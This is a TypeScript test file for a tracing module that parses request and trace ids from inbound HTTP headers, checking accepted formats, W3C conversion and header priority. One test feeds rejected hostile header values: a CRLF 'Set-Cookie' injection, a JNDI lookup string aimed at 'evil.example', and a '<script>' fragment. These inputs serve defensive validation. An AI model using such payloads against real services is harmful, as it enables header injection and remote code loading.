import { describe, expect, it } from 'vitest';
import { traceOfInboundId, untakenId } from '../../../lib/tracing/inbound-ids';
import { flagsOf, traceIdOf, w3cTraceIdOf } from '../../../lib/tracing/trace-state';

const HEX = '5759e988bd862e3fe1be46a994272793';
const UUID = '5759E988-bd86-4e3f-a1be-46a994272793';

function shown(name: string, value: string): string | undefined {
  const state = traceOfInboundId({ [name]: value }, [name]);
  return state && traceIdOf(state);
}

describe('an inbound id', () => {
  it.each([
    ['x-request-id', 'req_0123456789abcdef', 'req_0123456789abcdef'],
    ['x-request-id', UUID, UUID],
    ['x-request-id', HEX, HEX],
    ['cf-ray', '230b030023ae2822-SJC', '230b030023ae2822-SJC'],
    ['x-amzn-trace-id', 'Root=1-5759e988-bd862e3fe1be46a994272793', HEX],
    [
      'x-amzn-trace-id',
      'Self=1-67891234-12456789abcdef012345678;Root=1-5759e988-bd862e3fe1be46a994272793;Parent=53995c3f42cd8ad8;Sampled=1',
      HEX,
    ],
    ['x-cloud-trace-context', `${HEX.toUpperCase()}/123;o=1`, HEX],
    ['x-cloud-trace-context', HEX, HEX],
  ])('of %s is read from %s', (name, value, id) => {
    expect(shown(name, value)).toBe(id);
  });

  it.each([
    ['x-request-id', 'too-short'],
    ['x-request-id', 'x'.repeat(65)],
    ['x-request-id', 'x'.repeat(8192)],
    ['x-request-id', `${HEX}, ${HEX}`],
    ['x-request-id', '0123456789abcdef\r\nSet-Cookie: a=b'],
    ['x-request-id', '0123456789abcdef\u0000'],
    ['x-request-id', '${jndi:ldap://evil.example}'],
    ['x-request-id', 'ünïcödé-0123456789'],
    ['cf-ray', '230b030023ae2822 SJC'],
    ['x-amzn-trace-id', 'Root=1-00000000-000000000000000000000000'],
    [
      'x-amzn-trace-id',
      `Root=1-5759e988-bd862e3fe1be46a994272793, Root=1-5759e988-bd862e3fe1be46a994272793`,
    ],
    ['x-amzn-trace-id', `${'a=b;'.repeat(5_000)}Root=1-5759e988`],
    ['x-cloud-trace-context', '0'.repeat(32)],
    ['x-cloud-trace-context', `${HEX}/<script>`],
  ])('of %s is replaced, not mended: %j', (name, value) => {
    expect(shown(name, value)).toBeUndefined();
    expect(untakenId({ [name]: value }, HEX)).toBeUndefined();
  });

  it('that W3C can write is handed on as it is, another gets a trace id of its own', () => {
    const state = (value: string) => traceOfInboundId({ 'x-request-id': value }, ['x-request-id']);
    expect(w3cTraceIdOf(state(UUID) ?? '')).toBe(UUID.replaceAll('-', '').toLowerCase());
    expect(flagsOf(state(UUID) ?? '')).toBe('00');
    expect(w3cTraceIdOf(state('req_0123456789abcdef') ?? '')).toMatch(/^[\da-f]{32}$/);
    expect(flagsOf(state('req_0123456789abcdef') ?? '')).toBe('02');
  });

  it('is taken from the first header in the order of the option', () => {
    const headers = { 'cf-ray': '230b030023ae2822-SJC', 'x-request-id': UUID };
    expect(traceIdOf(traceOfInboundId(headers, ['cf-ray', 'x-request-id']) ?? '')).toBe(
      '230b030023ae2822-SJC',
    );
  });

  it('that was not taken is known by whatever header it came in', () => {
    expect(untakenId({ traceparent: `00-${HEX}-00f067aa0ba902b7-01` }, 'other')).toBe(HEX);
    expect(untakenId({ traceparent: `00-${HEX}-00f067aa0ba902b7-01` }, HEX)).toBeUndefined();
    expect(untakenId({ 'cf-ray': '230b030023ae2822-SJC' }, HEX)).toBe('230b030023ae2822-SJC');
  });
});
